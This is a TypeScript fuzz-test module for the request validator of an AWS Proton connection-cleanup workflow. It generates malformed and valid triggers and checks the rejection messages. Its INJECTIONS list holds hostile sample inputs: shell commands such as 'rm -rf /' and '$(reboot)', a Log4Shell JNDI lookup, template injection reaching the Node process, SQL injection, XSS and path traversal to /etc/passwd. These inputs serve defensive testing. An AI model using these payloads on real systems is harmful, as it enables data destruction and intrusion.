import { isDeepStrictEqual } from 'node:util';
import fc from 'fast-check';
import {
  type CleanupRequest,
  DECOMMISSION_DUE,
  DECOMMISSION_REQUESTED,
  DEFAULT_OPTIONS,
  PROTON_CONNECTION_STATUS_CHANGE,
  PROTON_ENVIRONMENT_STATUS_CHANGE,
  STANDALONE_TYPES,
} from '../../functions/domain/request.js';
import { type RequestSettings, resolveRequest } from '../../functions/domain/request-resolution.js';
import { InvalidRequestError } from '../../functions/runtime/errors.js';
import { CONNECTION_ID, ENVIRONMENT, eventBridgeEvent, MANAGEMENT_ACCOUNT } from '../helpers/scenarios.js';

/**
 * Fuzzed triggers: console inputs and EventBridge events that are wrong in every way a person,
 * a misconfigured rule or an attacker could make them, and valid ones that must pass.
 */
export const SETTINGS: RequestSettings = {
  defaultMode: 'plan',
  requestEventSource: 'proton-connection-cleanup',
  hub: { account: '111122223333', region: 'us-east-1' },
  regions: ['us-east-1'],
};

const INJECTIONS = [
  '"; rm -rf /',
  '$(reboot)',
  '`id`',
  '{{7*7}}',
  '{{constructor.constructor("return process")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style lookup, sent as text on purpose
  '${jndi:ldap://example.com/a}',
  "' OR 1=1; --",
  "Robert'); DROP TABLE connections;--",
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '\u0000',
  '%s%s%n',
  '\r\n\t',
] as const;

/** The characters huge strings repeat; no message template contains a run of them. */
const HUGE_CHARACTERS = ['A', 'ж', '~'] as const;
export const HUGE_LENGTH = 100_000;
/** What may be quoted back from a huge string: the event envelope's own bound on source and detail-type. */
export const MAX_ECHO = 256;
export const MAX_MESSAGE = 4_096;

export const hugeString = fc
  .tuple(fc.constantFrom(...HUGE_CHARACTERS), fc.constantFrom('', ...INJECTIONS))
  .map(([c, prefix]) => `${prefix}${c.repeat(HUGE_LENGTH)}`);

const notUuid = fc.oneof(
  fc.uuid().map((u) => u.slice(1)),
  fc.uuid().map((u) => u.replace(/-/g, '')),
  fc.uuid().map((u) => `${u}0`),
  fc.uuid().map((u) => u.replace(/[0-9a-f]/, 'g')),
  fc.constantFrom('', ' ', 'null', 'conn-1', 'arn:aws:proton:us-east-1:111122223333:environment-account-connection/x'),
);

const junkString = fc.oneof(fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 40 }), fc.string({ unit: 'grapheme', maxLength: 12 }), notUuid, hugeString);

const junkKey = fc.oneof(
  fc.string({ maxLength: 20 }),
  fc.constantFrom(...INJECTIONS, '__proto__', 'constructor', 'toString', 'Mode', 'connectionID'),
  hugeString,
);

/** Any JSON value but a string: the wrong type for every string field. */
const nonString = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 3 }),
  fc.dictionary(junkKey, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }),
);
const junkValue = fc.oneof(junkString, nonString);

export const nonObject = fc.oneof(
  junkString,
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 3 }), { maxLength: 4 }),
);

const MODES = new Set<unknown>(['plan', 'execute']);
const ENVIRONMENT_NAME = /^[0-9A-Za-z][0-9A-Za-z_-]{0,99}$/;
const ACCOUNT = /^\d{12}$/;
const mode = fc.constantFrom('plan', 'execute');
const environment = { name: ENVIRONMENT, managementAccountId: MANAGEMENT_ACCOUNT };
const withUnknownKeys = <T extends Record<string, unknown>>(known: readonly string[], base: fc.Arbitrary<T>) =>
  fc
    .tuple(
      base,
      fc.dictionary(
        junkKey.filter((k) => !known.includes(k)),
        fc.jsonValue({ maxDepth: 2 }),
        { minKeys: 1, maxKeys: 4 },
      ),
    )
    .map(([value, extra]) => ({ ...value, ...extra }));

const badEnvironment = fc.oneof(
  fc.oneof(junkString, nonString).filter((e) => typeof e !== 'object' || e === null || Array.isArray(e) || Object.keys(e).length > 0),
  fc.record({ name: junkValue.filter((n) => typeof n !== 'string' || !ENVIRONMENT_NAME.test(n)), managementAccountId: fc.constant(MANAGEMENT_ACCOUNT) }),
  fc.record({ name: fc.constant(ENVIRONMENT), managementAccountId: junkValue.filter((a) => typeof a !== 'string' || !ACCOUNT.test(a)) }),
  fc.record({ name: fc.constant(ENVIRONMENT) }),
  withUnknownKeys(['name', 'managementAccountId'], fc.constant(environment)),
);

const CONSOLE_FIELDS = ['connectionId', 'sweep', 'mode', 'environment', 'retainFailedResources', 'deleteTypes', 'deleteConnectionRoles'];

/** A console input (or a custom event's detail) that must be rejected. */
export const badConsoleInput: fc.Arbitrary<Record<string, unknown>> = fc.oneof(
  fc.record({ connectionId: junkValue, mode }),
  fc.record({ mode }, { requiredKeys: [] }), // nothing to decommission: no connectionId, environment or sweep
  fc.record({ connectionId: fc.constant(CONNECTION_ID), mode: junkValue.filter((m) => !MODES.has(m)) }),
  withUnknownKeys(CONSOLE_FIELDS, fc.record({ connectionId: fc.constant(CONNECTION_ID), mode })),
  fc.record({ connectionId: fc.constant(CONNECTION_ID), mode, environment: badEnvironment }),
  fc.dictionary(junkKey, fc.jsonValue({ maxDepth: 6 }), { maxKeys: 5 }).filter((o) => !('detail-type' in o)),
);

const ACCEPTED = new Set([
  `${SETTINGS.requestEventSource}\n${DECOMMISSION_REQUESTED}`,
  `${SETTINGS.requestEventSource}\n${DECOMMISSION_DUE}`,
  `aws.proton\n${PROTON_CONNECTION_STATUS_CHANGE}`,
  `aws.proton\n${PROTON_ENVIRONMENT_STATUS_CHANGE}`,
]);
const SOURCES = [SETTINGS.requestEventSource, 'aws.proton', 'aws.ec2', 'Proton-Connection-Cleanup', 'aws.proton ', ''];
const DETAIL_TYPES = [
  DECOMMISSION_REQUESTED,
  DECOMMISSION_DUE,
  PROTON_CONNECTION_STATUS_CHANGE,
  PROTON_ENVIRONMENT_STATUS_CHANGE,
  'EC2 Instance State-change Notification',
  '',
];
const ENVELOPE_FIELDS = ['version', 'id', 'source', 'account', 'time', 'region', 'resources'] as const;

const customEvent = (detail: unknown) => eventBridgeEvent(SETTINGS.requestEventSource, DECOMMISSION_REQUESTED, detail);
const rejectedEvent = (detail: unknown) => eventBridgeEvent('aws.proton', PROTON_CONNECTION_STATUS_CHANGE, detail);
const deletedEvent = (detail: unknown, account: unknown = MANAGEMENT_ACCOUNT) => ({
  ...eventBridgeEvent('aws.proton', PROTON_ENVIRONMENT_STATUS_CHANGE, detail),
  account,
});

/** An EventBridge event that must be rejected. */
export const badEvent: fc.Arbitrary<Record<string, unknown>> = fc.oneof(
  // a source and detail-type this workflow does not accept
  fc
    .record({ source: fc.oneof(fc.constantFrom(...SOURCES), junkString), detailType: fc.oneof(fc.constantFrom(...DETAIL_TYPES), junkString) })
    .filter(({ source, detailType }) => !ACCEPTED.has(`${source}\n${detailType}`))
    .map(({ source, detailType }) => eventBridgeEvent(source, detailType, { connectionId: CONNECTION_ID, mode: 'execute' })),
  // the custom event with a bad detail, or no object at all
  fc.oneof(badConsoleInput, nonObject).map(customEvent),
  // Proton's events with a status that calls for nothing, a bad id or name, a bad account
  fc.record({ id: fc.constant(CONNECTION_ID), status: fc.oneof(fc.constantFrom('PENDING', 'CONNECTED', 'rejected', ''), junkString) }).map(rejectedEvent),
  fc.record({ id: fc.oneof(notUuid, nonString), status: fc.constant('REJECTED') }).map(rejectedEvent),
  fc.record({ name: fc.constant(ENVIRONMENT), status: fc.oneof(fc.constantFrom('DELETE_IN_PROGRESS', 'deleted', ''), junkString) }).map((d) => deletedEvent(d)),
  fc.record({ name: junkValue.filter((n) => typeof n !== 'string' || !ENVIRONMENT_NAME.test(n)), status: fc.constant('DELETED') }).map((d) => deletedEvent(d)),
  junkValue.filter((a) => typeof a !== 'string' || !ACCOUNT.test(a)).map((account) => deletedEvent({ name: ENVIRONMENT, status: 'DELETED' }, account)),
  fc.oneof(nonObject, fc.constant({})).map(rejectedEvent),
  // an envelope field missing, or of the wrong type
  fc.tuple(fc.constantFrom(...ENVELOPE_FIELDS), fc.boolean(), nonString).map(([field, drop, value]) => {
    const { [field]: _, ...rest } = customEvent({ connectionId: CONNECTION_ID, mode: 'plan' });
    return drop ? rest : { ...rest, [field]: field === 'resources' && Array.isArray(value) && value.every((v) => typeof v === 'string') ? 7 : value };
  }),
  fc
    .oneof(
      junkString.filter((t) => !/^\d{4}-\d\d-\d\dT/.test(t)),
      nonString,
    )
    .map((time) => ({ ...customEvent({ connectionId: CONNECTION_ID }), time })),
  // nested junk with a detail-type
  fc.dictionary(junkKey, fc.jsonValue({ maxDepth: 6 }), { maxKeys: 6 }).map((junk) => ({ ...junk, 'detail-type': DECOMMISSION_REQUESTED })),
);

/** Every trigger that must be rejected. */
export const badInput: fc.Arbitrary<unknown> = fc.oneof(badConsoleInput, badEvent, nonObject);

const uuid = fc.uuid().chain((u) => fc.mixedCase(fc.constant(u)));
const environmentRef = fc.record({
  name: fc.stringMatching(ENVIRONMENT_NAME),
  managementAccountId: fc.stringMatching(ACCOUNT),
});
const validConsoleInput = fc.record(
  {
    connectionId: uuid,
    mode,
    environment: environmentRef,
    retainFailedResources: fc.boolean(),
    deleteTypes: fc.uniqueArray(fc.constantFrom(...STANDALONE_TYPES)),
    deleteConnectionRoles: fc.boolean(),
  },
  { requiredKeys: ['connectionId'] },
);
type ValidConsoleInput = typeof validConsoleInput extends fc.Arbitrary<infer T> ? T : never;
const envelope = fc.record({
  id: fc.string({ maxLength: 200 }),
  region: fc.constantFrom('us-east-1', 'eu-west-1'),
  time: fc.date({ min: new Date('2020-01-01T00:00:00Z'), max: new Date('2099-12-31T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString()),
  resources: fc.array(fc.string({ maxLength: 30 }), { maxLength: 2 }),
});

export interface ValidTrigger {
  input: unknown;
  expected: Omit<CleanupRequest, 'trigger'> & { trigger: CleanupRequest['trigger']['type'] };
}

const expectedFrom = (c: ValidConsoleInput, trigger: 'console' | 'event'): ValidTrigger['expected'] => ({
  target: SETTINGS.hub,
  connectionId: c.connectionId.toLowerCase(),
  protonApi: 'available' as const,
  mode: c.mode ?? SETTINGS.defaultMode,
  ...(c.environment ? { environment: c.environment } : {}),
  options: {
    retainFailedResources: c.retainFailedResources ?? false,
    deleteTypes: c.deleteTypes ?? [],
    deleteConnectionRoles: c.deleteConnectionRoles ?? false,
  },
  trigger,
});

/** Valid triggers of every kind, with the request each must resolve to. */
export const validTrigger: fc.Arbitrary<ValidTrigger> = fc.oneof(
  validConsoleInput.map((input) => ({ input, expected: expectedFrom(input, 'console') })),
  fc.tuple(validConsoleInput, fc.constantFrom(DECOMMISSION_REQUESTED, DECOMMISSION_DUE), envelope).map(([detail, detailType, env]) => ({
    input: { ...eventBridgeEvent(SETTINGS.requestEventSource, detailType, detail), ...env },
    expected: expectedFrom(detail, 'event'),
  })),
  fc.tuple(uuid, envelope).map(([id, env]) => ({
    input: { ...rejectedEvent({ id, status: 'REJECTED' }), ...env },
    expected: {
      target: SETTINGS.hub,
      connectionId: id.toLowerCase(),
      protonApi: 'available' as const,
      mode: SETTINGS.defaultMode,
      options: DEFAULT_OPTIONS,
      trigger: 'event' as const,
    },
  })),
  fc.tuple(environmentRef, envelope).map(([ref, env]) => ({
    input: { ...deletedEvent({ name: ref.name, status: 'DELETED' }, ref.managementAccountId), ...env },
    expected: {
      target: SETTINGS.hub,
      mode: SETTINGS.defaultMode,
      protonApi: 'available' as const,
      environment: ref,
      options: DEFAULT_OPTIONS,
      trigger: 'event' as const,
    },
  })),
);

const FIELD_FIRST = /^Invalid request: [A-Za-z0-9_.-]+: /;
const HUGE_ECHO = new RegExp(HUGE_CHARACTERS.map((c) => `${c}{${MAX_ECHO + 1},}`).join('|'));

/** What is wrong with how resolveRequest rejected this input (nothing: an InvalidRequest naming the field, bounded). */
export function rejectionProblems(input: unknown): string[] {
  let request: CleanupRequest;
  try {
    request = resolveRequest(input, SETTINGS);
  } catch (error) {
    if (!(error instanceof InvalidRequestError) || error.name !== 'InvalidRequest') {
      return [`threw ${(error as Error)?.name ?? typeof error} instead of InvalidRequest: ${String((error as Error)?.message ?? error).slice(0, 200)}`];
    }
    const message = error.message;
    const problems: string[] = [];
    if (!FIELD_FIRST.test(message)) problems.push(`the message names no field: ${message.slice(0, 200)}`);
    if (HUGE_ECHO.test(message)) problems.push(`the message quotes more than ${MAX_ECHO} characters of a huge string`);
    if (message.length > MAX_MESSAGE) problems.push(`the message is ${message.length} characters long`);
    return problems;
  }
  return [`accepted as ${JSON.stringify(request).slice(0, 200)}`];
}

/** What is wrong with how resolveRequest handled a valid trigger (nothing: the expected request). */
export function acceptanceProblems({ input, expected }: ValidTrigger): string[] {
  let request: CleanupRequest;
  try {
    request = resolveRequest(input, SETTINGS);
  } catch (error) {
    return [`rejected: ${(error as Error).name}: ${(error as Error).message.slice(0, 300)}`];
  }
  // The fields the trigger determines; fields added to the request since (markers, options) are not judged here.
  const got = Object.fromEntries(Object.keys(expected).map((key) => [key, key === 'trigger' ? request.trigger.type : request[key as keyof CleanupRequest]]));
  const plain = (value: unknown): unknown => JSON.parse(JSON.stringify(value));
  return isDeepStrictEqual(plain(got), plain(expected)) && (request.connectionId === undefined) === (expected.connectionId === undefined)
    ? []
    : [`resolved to ${JSON.stringify(got)}, expected ${JSON.stringify(expected)}`];
}
